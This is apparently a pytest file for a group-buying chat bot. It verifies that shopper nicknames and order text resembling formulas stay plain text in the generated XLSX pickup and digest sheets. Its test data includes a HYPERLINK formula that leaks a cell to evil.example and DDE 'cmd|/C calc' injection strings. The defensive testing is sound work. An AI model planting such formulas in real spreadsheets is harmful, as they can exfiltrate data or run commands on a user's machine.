"""Formula-safe cells in every XLSX qunbot writes (bot/xlsx.py): a shopper's nickname or words
that look like a formula stay text in the 接龙 pickup sheet and the digest workbook."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bot import xlsx
from handlers.groupbuy import closing
from tests.groupbuy.helpers import open_group, shop, use_groupbuy

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点我领券")'
RISKY = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def formulas(data: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def text_cells(data: bytes) -> dict[str, tuple[str, bool]]:
    out = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    out[c.value] = (c.data_type, bool(c.quotePrefix))
    return out


async def test_a_hyperlink_nickname_stays_text_in_the_pickup_sheet(service, monkeypatch):
    """Through the real 接龙 flow: a kf shopper whose WeChat nickname is a formula joins, the guide
    closes the 团, and the pickup sheet the guide is sent holds the nickname as plain text."""
    use_groupbuy(service)
    service.fake.add_group("wrGroupA", "xiaowang", [])
    service.fake.kf_customers["wmEvil"] = {"external_userid": "wmEvil", "nickname": EVIL, "avatar": "",
                                           "gender": 0, "unionid": ""}
    service.fake.kf_customers["wmPlus"] = {"external_userid": "wmPlus", "nickname": "+86 138", "avatar": "",
                                           "gender": 0, "unionid": ""}
    sent: list[bytes] = []
    real_build = closing.pickup_sheet.build
    monkeypatch.setattr(closing.pickup_sheet, "build", lambda *a, **kw: sent.append(real_build(*a, **kw)) or sent[-1])
    gid = await open_group(service, "/开团 丹东99草莓 36.9元/盒 满1盒成团 截止明天20:00 自提周六服务台")
    await shop(service, "wmEvil", "+2 =cmd|'/C calc'!A0")
    await shop(service, "wmPlus", "+1")
    await service.ask(f"/结团 {gid}")
    await service.ask("确认")  # /结团 shows what it will do first
    assert len(sent) == 1, "the close sent one pickup sheet"
    assert formulas(sent[0]) == []
    cells = text_cells(sent[0])
    names = [v for v in cells if v.startswith("=HYPERLINK(")]  # the line's name, as the 接龙 keeps it
    assert names and all(cells[v] == ("s", True) for v in names)
    assert cells["+86 138"] == ("s", True)
    assert cells["接龙号"] == ("s", False)  # ordinary text is left alone


@pytest.mark.parametrize("write_only", [False, True])
def test_risky_strings_are_quoted_text_and_the_rest_of_the_row_is_untouched(write_only):
    wb = Workbook(write_only=write_only)
    ws = xlsx.sheet(wb, "t", ("名字", "数量", "备注"))
    for v in RISKY:
        xlsx.append(ws, [v, 3, "普通"])
    data = xlsx.to_bytes(wb)
    assert formulas(data) == []
    rows = list(load_workbook(io.BytesIO(data))["t"].iter_rows(min_row=2))
    assert [r[0].value for r in rows] == [v.replace("\r", "\n") for v in RISKY]  # XML reads CR back as LF
    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in rows)
    # the cells after a quoted one keep their own type and no quote prefix
    assert all(r[1].value == 3 and r[1].data_type == "n" and not r[1].quotePrefix for r in rows)
    assert all(r[2].value == "普通" and not r[2].quotePrefix for r in rows)


def test_the_digest_workbook_goes_through_the_same_writer():
    from handlers.digest import sheet
    from tests.digest import sample
    d = sample.digest()
    d["wishes"][0]["term"] = EVIL
    d["wishes"][0]["examples"] = ["@SUM(A1:A9)", "-1+1"]
    data = sheet.build(d)
    assert formulas(data) == []
    cells = text_cells(data)
    assert cells[EVIL] == ("s", True) and cells["@SUM(A1:A9)"] == ("s", True) and cells["-1+1"] == ("s", True)
